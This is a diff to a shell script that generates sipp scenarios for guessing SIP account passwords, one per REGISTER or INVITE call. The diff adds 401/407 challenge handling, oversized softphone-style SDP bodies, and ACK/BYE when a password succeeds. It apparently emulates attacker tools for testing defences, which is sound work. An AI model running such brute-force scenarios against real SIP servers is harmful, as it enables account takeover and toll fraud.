@@ -2,21 +2,29 @@
 # Writes a sipp UAC scenario that tries one password per call: call K sends
 # REGISTER (or INVITE) -> challenge -> the same request with the K-th password of
 # PASSWORDS -> failure, on a fresh Call-ID. sipp 3.6.1 expands no keyword inside
-# [authentication ...], so the passwords are written into the scenario itself.
+# [authentication ...], so the passwords are written into the scenario itself. A right
+# password ends the call the way the tool would go on: 200 to REGISTER; 183/200 to
+# INVITE, then ACK and BYE.
 #
-#   gen-bruteforce.sh USER PASSWORDS METHOD [USER_AGENT] > scenario.xml
-# An empty or absent USER_AGENT sends no User-Agent header. Keyword (sipp -key): target
-# (the R-URI user for INVITE: the number the attacker tries to call).
+#   gen-bruteforce.sh USER PASSWORDS METHOD [USER_AGENT [CHALLENGE [SDP_BYTES]]] > scenario.xml
+# An empty or absent USER_AGENT sends no User-Agent header. CHALLENGE: the code an
+# INVITE is challenged with (407, or 401 from a PJSIP-style PBX; REGISTER: always 401).
+# SDP_BYTES > 0: INVITEs carry an SDP body of about that size (codecs and ICE candidates,
+# as softphones send), to make them larger than an MTU. Keyword (sipp -key): target (the
+# R-URI user for INVITE: the number the attacker tries to call).
 set -euo pipefail
-user="$1" passwords="$2" method="$3" ua="${4:-}"
+user="$1" passwords="$2" method="$3" ua="${4:-}" challenge="${5:-}" sdp_bytes="${6:-0}"
 [[ "$ua" =~ ^[A-Za-z0-9\ ./_:\(\)-]*$ ]] || { echo "bad user agent '$ua'" >&2; exit 1; }
 [[ "$user" =~ ^[0-9A-Za-z]+$ ]] || { echo "bad user '$user'" >&2; exit 1; }
 [[ "$method" == REGISTER || "$method" == INVITE ]] || { echo "method must be REGISTER or INVITE" >&2; exit 1; }
+[[ -z "$challenge" || "$challenge" == 401 || "$challenge" == 407 ]] || { echo "challenge must be 401 or 407" >&2; exit 1; }
+[[ "$sdp_bytes" =~ ^[0-9]+$ ]] && ((sdp_bytes <= 8000)) || { echo "SDP_BYTES must be 0-8000" >&2; exit 1; }
 mapfile -t pws < <(grep -v -e '^#' -e '^\s*$' "$passwords")
 [ "${#pws[@]}" -gt 0 ] || { echo "no passwords in $passwords" >&2; exit 1; }
 for pw in "${pws[@]}"; do
   [[ "$pw" =~ ^[A-Za-z0-9._-]+$ ]] || { echo "password '$pw' has characters other than A-Z a-z 0-9 . _ -" >&2; exit 1; }
 done
+body=""
 if [ "$method" = REGISTER ]; then
   ruri='sip:[remote_ip]'
   to="<sip:$user@[remote_ip]>"
@@ -26,15 +34,41 @@ if [ "$method" = REGISTER ]; then
 else
   ruri='sip:[target]@[remote_ip]'
   to='<sip:[target]@[remote_ip]>'
-  challenge=407
+  challenge="${challenge:-407}"
   extra='Contact: <sip:'"$user"'@[local_ip]:[local_port];transport=[transport]>'
+  if ((sdp_bytes > 0)); then
+    # A softphone's offer: several codecs, then ICE candidates until the size is reached.
+    body='v=0
+o=- 3890000001 3890000001 IN IP[local_ip_type] [local_ip]
+s=-
+c=IN IP[media_ip_type] [media_ip]
+t=0 0
+m=audio [media_port] RTP/AVP 0 8 9 18 101
+a=rtpmap:0 PCMU/8000
+a=rtpmap:8 PCMA/8000
+a=rtpmap:9 G722/8000
+a=rtpmap:18 G729/8000
+a=fmtp:18 annexb=no
+a=rtpmap:101 telephone-event/8000
+a=fmtp:101 0-16
+a=ice-ufrag:Zq8x
+a=ice-pwd:w2N4f0pXb7uQm1c9rT5kL3yH'
+    local_n=1
+    while [ "${#body}" -lt "$sdp_bytes" ]; do
+      body+=$'\n'"a=candidate:$local_n 1 udp 2130706431 [media_ip] $((40000 + local_n)) typ host generation 0"
+      local_n=$((local_n + 1))
+    done
+    body+=$'\n'"a=sendrecv"
+  fi
 fi
-
 request() { # $1: extra line (credentials or nothing); sipp would end the headers at
   # an empty line, so absent lines are left out, not left blank.
   local opt=""
   [ -n "$ua" ] && opt+=$'\n'"      User-Agent: $ua"
   [ -n "$1" ] && opt+=$'\n'"      $1"
+  # Without a body the message ends at the empty line (Content-Length: 0).
+  local tail="Content-Length: 0"$'\n'
+  [ -z "$body" ] || tail="Content-Type: application/sdp"$'\n'"      Content-Length: [len]"$'\n\n'"$body"
   cat <<XML
   <send retrans="500">
     <![CDATA[
@@ -46,8 +80,7 @@ request() { # $1: extra line (credentials or nothing); sipp would end the header
       Call-ID: [call_id]
       CSeq: [cseq] $method
       $extra$opt
-      Content-Length: 0
-
+      $tail
     ]]>
   </send>
 XML
@@ -84,13 +117,48 @@ for i in "${!pws[@]}"; do
 XML
   request "[authentication username=$user password=${pws[$i]}]"
   cat <<XML
+  <recv response="100" optional="true"/>
+  <recv response="183" optional="true"/>
   <recv response="403" optional="true" next="end"/>
   <recv response="404" optional="true" next="end"/>
   <recv response="480" optional="true" next="end"/>
-  <recv response="200" optional="true" next="end"/>
+  <recv response="200" optional="true" next="ok"/>
   <recv response="$challenge" next="end"/>
 XML
 done
+# A right password: REGISTER is done; a call gets its ACK and is hung up.
+echo '  <label id="ok"/>'
+if [ "$method" = INVITE ]; then
+  cat <<XML
+  <send>
+    <![CDATA[
+      ACK sip:trunk@[remote_ip] SIP/2.0
+      Via: SIP/2.0/[transport] [local_ip]:[local_port];branch=[branch];rport
+      Max-Forwards: 70
+      From: <sip:$user@[remote_ip]>;tag=[pid]SIPpTag[call_number]
+      [last_To:]
+      Call-ID: [call_id]
+      CSeq: [cseq] ACK
+      Content-Length: 0
+
+    ]]>
+  </send>
+  <send retrans="500">
+    <![CDATA[
+      BYE sip:trunk@[remote_ip] SIP/2.0
+      Via: SIP/2.0/[transport] [local_ip]:[local_port];branch=[branch];rport
+      Max-Forwards: 70
+      From: <sip:$user@[remote_ip]>;tag=[pid]SIPpTag[call_number]
+      [last_To:]
+      Call-ID: [call_id]
+      CSeq: [cseq] BYE
+      Content-Length: 0
+
+    ]]>
+  </send>
+  <recv response="200"/>
+XML
+fi
 cat <<XML
   <label id="end"/>
 </scenario>
